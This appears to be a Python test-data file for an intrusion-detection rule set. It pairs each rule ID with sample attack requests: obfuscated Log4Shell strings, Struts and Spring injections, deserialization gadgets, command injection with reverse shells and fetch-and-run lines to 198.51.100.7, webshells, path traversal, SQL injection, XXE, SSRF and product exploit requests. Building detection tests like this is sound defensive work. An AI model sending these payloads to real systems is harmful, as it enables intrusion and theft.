"""An attack or more for each rule of rules/builtin.rules. What is between « and » is what an attacker
would hide: percent signs, letters' case."""


class Attack:
    def __init__(self, sid, kind, text, **how):
        self.sid, self.kind, self.text, self.how = sid, kind, text, how


def uri(sid, text, **how):
    """A request for that. exact: letters' case matters. raw: as it stands, not encoded. always: other forms too."""
    return Attack(sid, "uri", text, **how)


def form(sid, text, **how):
    return Attack(sid, "form", text, **how)


def body(sid, text, type="application/json", **how):
    """A body of that type, as it stands; also with its letters in any case, unless exact."""
    return Attack(sid, "body", text, type=type, **how)


def header(sid, name, value, **how):
    return Attack(sid, "header", value, name=name, **how)


def sql(sid, text):
    """What a database is sent."""
    return Attack(sid, "sql", text)


XML, FORM = "application/xml", "application/x-www-form-urlencoded"
LDAP = "ldap://198.51.100.7/a}"
GADGETS = ("\xac\xed\0\5sr\0\x11java.util.HashSet\xbaD\x85\x95\x96\xb8\xb74\3\0\0xpw\x0c\0\0\0\2sr\x004"
           "org.apache.commons.collections.keyvalue.TiedMapEntry\x8a\xad\xd2\x9b9\xc1\x1f\xdb")
PLAIN_OBJECT = "\xac\xed\0\5sr\0\x0ejava.util.Date hj\x81\1KYt\x19\3\0\0xpw\x08\0\0\1\x8c\x12\x34\x56\x78x"
RO0 = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3DAAAAAI"
STRUTS = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
          "(#_memberAccess?(#_memberAccess=#dm):((#c=#context['com.opensymphony.xwork2.ActionContext.container'])))}")
S061 = "%{(#im=#application[\"org.apache.tomcat.InstanceManager\"]).(#bean=#im.newInstance(\"a.b.BeanMap\"))}"
XSTREAM = ("<map>\n  <entry>\n    <jdk.nashorn.internal.objects.NativeString>\n      <flags>0</flags>\n"
           "      <value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\">\n")


def multipart(name, value, extra=""):
    return f"--frontier\r\nContent-Disposition: form-data; name=\"{name}\"{extra}\r\n\r\n{value}\r\n--frontier--\r\n"


MULTI = "multipart/form-data; boundary=frontier"

ATTACKS = [
    # Log4Shell
    uri(9000001, "/search?q=«${jndi:" + LDAP + "»"),
    uri(9000001, "/«${jndi:dns://a.example/" + "x}»"),
    header(9000002, "User-Agent", "«${jndi:" + LDAP + "»"),
    header(9000002, "X-Api-Version", "a «${jndi:rmi://198.51.100.7:1099/o}»"),
    header(9000003, "Cookie", "session=«${jndi:" + LDAP + "»; a=b"),
    form(9000004, "user=«${jndi:" + LDAP + "»&pass=x"),
    body(9000004, '{"name": "«${jndi:' + LDAP + '»"}'),
    uri(9000011, "/?q=«${${lower:j}ndi:" + LDAP + "»"),
    uri(9000011, "/?q=«${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.7/a}»"),
    header(9000012, "X-Forwarded-For", "«${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap://198.51.100.7/a}»"),
    header(9000012, "Referer", "«${j${k8s:k5:-ND}i${sd:k5:-:}" + LDAP + "»"),
    header(9000012, "User-Agent", "«${jnd${upper:\xc4\xb1}:" + LDAP + "»"),
    header(9000013, "Cookie", "id=«${${lower:jn}${lower:d}i:" + LDAP + "»"),
    body(9000014, '{"a": "«${${lower:${lower:jndi}}:' + LDAP + '»"}'),
    form(9000014, "a=«${jn${lower:d}i:" + LDAP + "»"),
    body(9000004, '{"a": "\\u0024\\u007bjndi:ldap://198.51.100.7/a}"}', exact=True),
    body(9000004, "<a>&#36;&#x7b;&#106;ndi:ldap://198.51.100.7/a}</a>", "text/xml", exact=True),
    body(9000014, '{"a": "\\u0024{${lower:\\u006a}ndi:ldap://198.51.100.7/a}"}', exact=True),
    uri(9000011, "/?q=«${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:" + LDAP + "»"),
    uri(9000011, "/?q=«${${::-${::-$${::-j}}}ndi:" + LDAP + "»"),
    uri(9000031, "/t?x=«${script:javascript:java.lang.Runtime.getRuntime().exec('id')}»"),
    form(9000032, "x=«${url:UTF-8:https://198.51.100.7/a}»"),
    # Java
    uri(9000101, "/spring?«class.module.classLoader.resources.context.parent.pipeline.first.pattern»=x"),
    form(9000102, "a=b&«class.module.classLoader.resources.context.parent.pipeline.first.suffix»=.jsp"),
    form(9000102, "«class['module']['classLoader'].resources.context.parent.pipeline.first.prefix»=shell"),
    body(9000102, multipart("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT"), MULTI),
    header(9000103, "spring.cloud.function.routing-expression", "T(java.lang.Runtime).getRuntime().exec(\"id\")"),
    uri(9000104, "/a?x=«T(java.lang.Runtime).getRuntime().exec('id')»"),
    uri(9000104, "/«${@java.lang.Runtime@getRuntime().exec(\"id\")}»/"),
    body(9000105, '{"id": "a", "filters": [{"name": "AddResponseHeader", "args": {"name": "R", "value": '
         '"#{new String(T(java.lang.Runtime).getRuntime().exec(\\"id\\"))}"}}]}'),
    header(9000111, "Content-Type", "«" + STRUTS + "»"),
    header(9000112, "Content-Disposition", "form-data; name=x; filename=\"«" + STRUTS + "»\""),
    uri(9000113, "/showcase/«${(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#w=#context)}»/actionChain1.action"),
    uri(9000113, "/struts/«${(111+111)}»/actionChain1.action"),
    uri(9000113, "/confluence/«${(#a=@org.apache.commons.io.IOUtils@toString(1))}»/"),
    uri(9000114, "/index.action?id=«" + S061 + "»"),
    form(9000115, "id=«" + S061 + "»"),
    body(9000115, multipart("id", S061), MULTI),
    uri(9000116, "/index.action?«redirect:${#context['xwork.MethodAccessor.denyMethodExecution']}»"),
    form(9000117, "queryString=«\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027)}+\\u0027»"),
    # objects
    body(9000201, PLAIN_OBJECT, "application/octet-stream", exact=True),
    body(9000202, '{"state": "' + RO0 + '"}', exact=True),
    form(9000202, "state=" + RO0, exact=True),
    uri(9000203, "/faces?javax.faces.ViewState=" + RO0, exact=True, raw=True),
    header(9000204, "Cookie", "remember=" + RO0, exact=True),
    header(9000205, "Authorization", "Bearer " + RO0, exact=True),
    body(9000206, GADGETS, "application/octet-stream", exact=True),
    body(9000207, '{"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "rmi://198.51.100.7/a"}}'),
    body(9000208, "a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://198.51.100.7/\"]]]]\n",
         "application/yaml"),
    body(9000208, "!!python/object/apply:os.system ['id']\n", "application/yaml"),
    body(9000209, "cos\nsystem\n(S'id'\ntR.", "application/octet-stream", exact=True),
    body(9000210, '{"p": "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0="}', exact=True),
    body(9000211, '{"rce": "_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'id\')}()"}'),
    Attack(9000212, "tcp", "\0\0\0\x70\x1f\0\0\0\0\0\0\0\0\0\1\1\0\x42org.springframework.context.support."
           "ClassPathXmlApplicationContext\1\0\x1ehttp://198.51.100.7:8000/a.xml", dport=61616),
    # shells
    header(9000301, "User-Agent", "() { :;}; /bin/bash -c 'id'"),
    header(9000301, "Referer", "() { _; } >_[$($())] { id; }"),
    header(9000302, "Cookie", "() { :; }; echo; /usr/bin/id"),
    uri(9000303, "/cgi-bin/a.sh?«() { :;}; echo x»"),
    uri(9000311, "/ping?host=«127.0.0.1; cat /etc/passwd»"),
    uri(9000311, "/ping?host=«127.0.0.1|/bin/cat${IFS}/etc/hosts»"),
    uri(9000311, "/ping?host=«$(cat</etc/passwd)»"),
    uri(9000311, "/a?x=«`wget http://198.51.100.7/x.sh -O /tmp/x`»"),
    uri(9000311, "/a?x=«1 && curl -s 198.51.100.7/x»"),
    uri(9000312, "/a?x=«;bash -i >& /dev/tcp/198.51.100.7/4444 0>&1»"),
    uri(9000311, "/a?x=«|nc -e /bin/sh 198.51.100.7 4444»"),
    uri(9000311, "/a?x=«| powershell -enc SQBFAFgA»"),
    uri(9000311, "/a?x=«1;sleep 10»"),
    uri(9000311, "/a?x=«1%0aping -c 10 127.0.0.1»"),
    uri(9000311, "/a?x=«1;id»"),
    uri(9000311, "/a?x=«`whoami`»"),
    form(9000321, "host=«127.0.0.1; cat /etc/passwd»"),
    body(9000321, '{"host": "127.0.0.1;cat /etc/passwd"}'),
    form(9000321, "host=«127.0.0.1 | wget http://198.51.100.7/x»"),
    body(9000321, multipart("host", "x;curl http://198.51.100.7/x|sh"), MULTI),
    form(9000322, "a=«x;bash -c 'bash -i >& /dev/tcp/198.51.100.7/1 0>&1'»"),
    form(9000321, "a=«x;sleep 5»"),
    form(9000321, "a=«x|id»"),
    body(9000321, '{"host": "a$(whoami)"}'),
    uri(9000311, "/a?x=«1;python3 -c 'import os'»"),
    form(9000321, "a=«x%0abash -c id»"),
    uri(9000331, "/a?x=«a;cat${IFS}a»"),
    form(9000332, "x=«;cat${IFS}/flag»"),
    # files
    uri(9000401, "/../../etc/passwd", raw=True),
    uri(9000401, "/a/..%2f..%2f..%2fetc/passwd", raw=True),
    uri(9000401, "/cgi-bin/%2e%2e/%2e%2e/bin/sh", raw=True),
    uri(9000401, "/app/..;/manager/html", raw=True),
    uri(9000401, "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir", raw=True),
    uri(9000401, "/a/..%5c..%5cboot.ini", raw=True),
    uri(9000402, "/view?page=«../../../../../../tmp/x»"),
    uri(9000402, "/view?page=«..\\..\\..\\..\\x»"),
    uri(9000402, "/a/%252e%252e%252f%252e%252e%252f%252e%252e%252fx", raw=True),
    uri(9000402, "/view?page=«....//....//....//x»"),
    uri(9000403, "/view?page=«../etc/passwd»"),
    uri(9000403, "/view?page=«..\\..\\windows\\win.ini»"),
    uri(9000403, "/view?page=..%252f..%252fetc%252fpasswd", raw=True),
    uri(9000403, "/view?page=%u002e%u002e%u002f%f0%80%80%ae.%ef%bc%8fetc/passwd", raw=True),
    uri(9000403, "/view?page=%25252e%25252e%25252fetc%25252fpasswd", raw=True),
    form(9000404, "page=«../../etc/shadow»"),
    body(9000404, '{"path": "../../../../proc/self/environ"}'),
    uri(9000405, "/a/%c0%ae%c0%ae/%c0%ae%c0%ae/x", raw=True),
    uri(9000405, "/a?f=..%c0%af..%c0%afx", raw=True),
    uri(9000406, "/view?page=«/etc/passwd»"),
    uri(9000406, "/view?page=«file:///etc/passwd»"),
    uri(9000406, "/view?page=«C:\\Windows\\win.ini»"),
    body(9000407, multipart("f", "x", "; filename=\"../../../var/www/html/x.php\""), MULTI),
    uri(9000408, "/«.git/config»"),
    uri(9000408, "/app/«.env»"),
    uri(9000408, "/«wp-config.php.bak»"),
    uri(9000409, "/a?f=secret.php%00.png", raw=True),
    # PHP
    uri(9000411, "/?page=«php://filter/convert.base64-encode/resource=index»"),
    uri(9000411, "/?page=«php://input»"),
    uri(9000411, "/?page=«data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOz8+»"),
    uri(9000411, "/?page=«expect://id»"),
    form(9000412, "page=«php://filter/read=convert.base64-encode/resource=config»"),
    uri(9000421, "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", raw=True),
    uri(9000421, "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1", raw=True),
    uri(9000422, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", raw=True),
    uri(9000423, "/index.php?s=«/index/\\think\\app/invokefunction»&function=call_user_func_array&vars[0]=phpinfo"),
    body(9000424, "<?php @eval($_POST['c']); ?>", "application/octet-stream"),
    body(9000424, multipart("f", "GIF89a<?php system($_GET[0]);?>", "; filename=\"a.php\""), MULTI),
    uri(9000425, "/a?x=«system('id');»"),
    form(9000426, "c=«@ini_set(\"display_errors\",\"0\");echo(\"x\");»"),
    form(9000426, "c=«system('id');»"),
    uri(9000427, "/a?d=«O:8:\"stdClass\":1:{s:1:\"a\";i:1;}»"),
    header(9000428, "Cookie", "d=«O:8:\"Evil\\Name\":1:{s:1:\"a\";i:1;}»"),
    header(9000429, "User-Agent", "}__test|O:21:\"JDatabaseDriverMysqli\":3:{", exact=True),
    uri(9000430, "/wp-content/uploads/2024/05/x.php", raw=True),
    uri(9000431, "/a/c99.php", raw=True),
    body(9000432, "<%@ page import=\"java.io.*\" %><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "application/octet-stream"),
    body(9000433, "<%eval request(\"c\")%>", "application/octet-stream"),
    # SQL
    uri(9000501, "/item?id=«1 UNION SELECT 1,2,3»"),
    uri(9000501, "/item?id=«-1' union all select null,null,concat(user,0x3a,password) from users-- -»"),
    uri(9000501, "/item?id=«1/**/union/*x*/select/**/1,2»"),
    uri(9000501, "/item?id=«1/*!50000UNION*//*!50000SELECT*/1,2»"),
    uri(9000501, "/item?id=«1)union(select(1),2)»"),
    uri(9000501, "/item?id=«1\tunion\nselect\r1»"),
    uri(9000501, "/item/«1 union select 1,user()»"),
    uri(9000502, "/login?user=«admin' OR '1'='1»"),
    uri(9000502, "/login?user=«' or 1=1 -- »"),
    uri(9000502, "/login?user=«1 or 1=1»"),
    uri(9000502, "/login?user=«x' or 'a' like 'a»"),
    uri(9000502, "/login?user=«1'/**/or/**/1=1#»"),
    uri(9000502, "/login?user=«') or ('1'='1»"),
    uri(9000502, "/login?user=«\" or \"\"=\"»"),
    uri(9000502, "/login?user=«1'||1=1#»"),
    uri(9000502, "/login?user=«1' or 0x31=0x31-- »"),
    uri(9000502, "/login?user=1%EF%BC%87%20or%201=1--%20", raw=True),
    uri(9000502, "/login?user=1'%A0or%A01=1--%A0", raw=True),
    uri(9000503, "/a?id=«1; DROP TABLE users»"),
    uri(9000503, "/a?id=«1';exec master..xp_dirtree '\\\\a\\b'--»"),
    uri(9000503, "/a?id=«1;insert into users values(1)»"),
    uri(9000531, "/a?id=«1 and sleep(5)»"),
    uri(9000531, "/a?id=«1' AND (SELECT 1 FROM (SELECT(SLEEP(5)))a)-- »"),
    uri(9000532, "/a?id=«1 or benchmark(10000000,md5(1))»"),
    uri(9000533, "/a?id=«1; WAITFOR DELAY '0:0:5'--»"),
    uri(9000534, "/a?id=«1;select pg_sleep(5)»"),
    uri(9000535, "/a?id=«1 and 1=dbms_pipe.receive_message('a',5)»"),
    uri(9000541, "/a?id=«1 and (select count(*) from information_schema.tables)>0»"),
    uri(9000542, "/a?id=«1 exec master..xp_cmdshell 'dir'»"),
    uri(9000543, "/a?id=«1 into outfile '/var/www/x.php'»"),
    uri(9000543, "/a?id=«-1 or load_file(0x2f6574632f706173737764)»"),
    uri(9000544, "/a?id=«updatexml(1,concat(0x7e,version()),1)»"),
    uri(9000545, "/a?id=«extractvalue(1,concat(0x7e,version()))»"),
    uri(9000546, "/a?id=«1 and 1=(select top 1 name from sysobjects)»"),
    uri(9000547, "/a?id=«1||pg_read_file('/etc/passwd')»"),
    uri(9000548, "/a?id=«1||utl_http.request('http://198.51.100.7/')»"),
    uri(9000506, "/login?user=«admin'--»&pass=x"),
    form(9000511, "id=«1 union select 1,2,3»"),
    form(9000511, "id=«1'/**/UNION/**/ALL/**/SELECT/**/null--»"),
    body(9000511, '{"id": "1\' union select user,pass from users"}'),
    body(9000511, multipart("id", "1' union select null,null"), MULTI),
    form(9000512, "user=«admin' or '1'='1»"),
    body(9000512, '{"user": "x\' or 1=1 -- "}'),
    form(9000513, "id=«1;drop table users»"),
    form(9000551, "id=«1' and sleep(5)-- »"),
    form(9000552, "id=«1' or benchmark(5000000,sha1(1))-- »"),
    body(9000553, '{"id": "1\'; waitfor delay \'0:0:5\'--"}'),
    body(9000554, '{"id": "1;select pg_sleep(5)"}'),
    form(9000555, "id=«1' and 1=dbms_pipe.receive_message('a',5)-- »"),
    form(9000561, "id=«1' and 1=(select table_name from information_schema.tables limit 1)»"),
    form(9000562, "id=«1';exec xp_cmdshell 'dir'»"),
    form(9000563, "id=«1' into outfile '/var/www/x.php'»"),
    body(9000564, '{"id": "1 and updatexml(1,concat(0x7e,version()),1)"}'),
    body(9000565, '{"id": "1 and extractvalue(1,concat(0x7e,version()))"}'),
    body(9000566, '{"id": "1 and 1=(select top 1 name from sysobjects)"}'),
    body(9000567, '{"id": "1||pg_ls_dir(\'/\')"}'),
    body(9000568, '{"id": "1||utl_inaddr.get_host_name(\'a\')"}'),
    form(9000516, "user=«admin'-- »&pass=x"),
    header(9000521, "Cookie", "id=«1' union select 1,2»"),
    header(9000525, "Cookie", "id=«x' or '1'='1»"),
    header(9000522, "X-Forwarded-For", "1.1.1.1' and (select 1 from(select sleep(5))x) and '1'='1"),
    header(9000526, "User-Agent", "«Mozilla/5.0' AND (SELECT 1)=1 AND SLEEP(5)-- »"),
    header(9000526, "X-Forwarded-For", "«10.0.0.1'||pg_sleep(5)--»"),
    uri(9000523, "/login?username=admin&«password[$ne]=»x"),
    form(9000524, "username=admin&«password[$gt]»="),
    body(9000524, '{"username": "admin", "password": {"$ne": null}}'),
    # XML, SSRF, templates
    body(9000601, '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<r>&xxe;</r>', XML),
    body(9000601, '<!DOCTYPE r [<!ENTITY % x SYSTEM "http://198.51.100.7/x.dtd"> %x;]><r/>', "text/xml"),
    body(9000602, "\xff\xfe" + "".join(c + "\0" for c in '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
         XML, exact=True),
    body(9000603, '<!DOCTYPE l [<!ENTITY a "x"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>', XML),
    body(9000604, '<!DOCTYPE r SYSTEM "file:///etc/passwd"><r/>', XML),
    body(9000605, '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>', XML),
    uri(9000611, "/fetch?url=«http://169.254.169.254/latest/meta-data/iam/»"),
    uri(9000611, "/fetch?url=«http://2852039166/latest/»"),
    uri(9000611, "/fetch?url=«http://metadata.google.internal/computeMetadata/v1/»"),
    uri(9000611, "/fetch?url=«http://[::ffff:a9fe:a9fe]/»"),
    form(9000612, "url=«http://169.254.169.254/latest/meta-data/»"),
    body(9000612, '{"webhook": "http://169.254.169.254/latest/"}'),
    uri(9000613, "/fetch?url=«gopher://127.0.0.1:6379/_x»"),
    uri(9000621, "/a?name=«{{''.__class__.__mro__[1].__subclasses__()}}»"),
    form(9000622, "name=«{{config.__init__.__globals__['os'].popen('id').read()}}»"),
    uri(9000623, "/a?«__proto__[admin]»=1"),
    body(9000624, '{"a": 1, "__proto__": {"admin": true}}'),
    # products
    uri(9000701, "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", raw=True),
    Attack(9000702, "request", "POST /mgmt/tm/util/bash HTTP/1.1\r\nHost: a\r\nConnection: keep-alive, X-F5-Auth-Token\r\n"
           "X-F5-Auth-Token: 0\r\nContent-Length: 2\r\n\r\n{}"),
    uri(9000703, "/vpn/../vpns/portal/scripts/newbm.pl", raw=True),
    uri(9000704, "/dana-na/../dana/html5acc/guacamole/../../../../../etc/passwd?/dana/html5acc/guacamole/", raw=True),
    uri(9000705, "/autodiscover/autodiscover.json?a@b.example/powershell/?X-Rps-CAT=x", raw=True),
    header(9000706, "Cookie", "X-BEResource=a]@localhost:444/ecp/x#~1941962753"),
    body(9000707, '<soapenv:Envelope><soapenv:Header><work:WorkContext xmlns:work="x"><java><object class="java.lang.ProcessBuilder">', "text/xml"),
    uri(9000708, "/console/css/%252e%252e%252fconsole.portal?_nfpb=true", raw=True),
    uri(9000709, "/user/register?element_parents=account/mail/«#value&x[#markup]»=1"),
    form(9000710, "form_id=user_register_form&«mail[#post_render][]»=exec&«mail[#type]»=markup"),
    uri(9000711, "/_ignition/execute-solution", raw=True),
    uri(9000712, "/solr/a/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=1)", raw=True),
    uri(9000713, "/public/plugins/alertlist/../../../../../../../../etc/passwd", raw=True),
    uri(9000714, "/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=x",
        raw=True),
    Attack(9000715, "request", "POST /script HTTP/1.1\r\nHost: a\r\nContent-Type: " + FORM + "\r\nContent-Length: 42\r\n\r\n"
           "script=println%20%22id%22.execute%28%29%20"),
    body(9000716, '{"size": 1, "script_fields": {"a": {"script": "java.lang.Math.class.forName(\\"java.lang.Runtime\\")"}}}'),
    body(9000717, '{"application-id": "a", "am-container-spec": {"commands": {"command": "curl http://198.51.100.7/x | bash"}}}'),
    Attack(9000718, "request", "POST /v1.40/containers/create HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
           "Content-Length: 60\r\n\r\n{\"Image\": \"alpine\", \"HostConfig\": {\"Binds\": [\"/:/mnt\"]     }}"),
    uri(9000719, "/app/rest/users/id:1/tokens/RPC2", raw=True),
    uri(9000720, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", raw=True),
    uri(9000720, "/icons/.%%32%65/.%%32%65/etc/passwd", raw=True),
    uri(9000721, "/geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=«exec(java.lang.Runtime.getRuntime(),'id')»"),
    body(9000722, '<wfs:GetPropertyValue><wfs:valueReference>exec(java.lang.Runtime.getRuntime(),"id")</wfs:valueReference>', XML),
    body(9000723, '{"then": "$1:__proto__:then", "_response": {"_prefix": "process.mainModule.require(\'child_process\').execSync(\'id\');"}}'),
    header(9000724, "x-middleware-subrequest", "middleware:middleware:middleware:middleware:middleware"),
    # the reference's
    sql(9000901, "SELECT * FROM users WHERE name='admin' OR '1'='1' AND pass='x'"),
    sql(9000901, "select * from items where id=5 or 1=1-- and owner='x'"),
    sql(9000901, "SELECT a FROM t WHERE x='' or 'abc'='abc'#' LIMIT 1"),
    sql(9000902, "SELECT * FROM users WHERE name='' OR 1 -- ' AND pass=''"),
    sql(9000903, "SELECT * FROM items WHERE id='1' AND SLEEP(5) AND '1'='1'"),
    sql(9000903, "SELECT * FROM items WHERE id=1 and if(1=1,sleep(5),0)"),
    sql(9000904, "SELECT * FROM items WHERE id=1 OR BENCHMARK(5000000,MD5('x'))"),
    sql(9000905, "SELECT * FROM items WHERE id=1; WAITFOR DELAY '0:0:5'--"),
    sql(9000906, "SELECT a FROM items WHERE id='1' UNION ALL SELECT password FROM users-- ' AND x=1"),
    sql(9000906, "SELECT a FROM items WHERE id='1'/**/union/**/select/**/user()#' AND x=1"),
    sql(9000907, "SELECT a FROM t WHERE id='1'; EXEC master..xp_dirtree 'c:\\'--'"),
    sql(9000908, "SELECT a FROM t WHERE id=1; DECLARE @c varchar(99); EXEC xp_cmdshell 'dir'"),
    body(9000921, XSTREAM, XML),
    body(9000921, "<map><entry><java.lang.ProcessBuilder><command><string>id</string></command></java.lang.ProcessBuilder></entry></map>", "text/xml"),
]
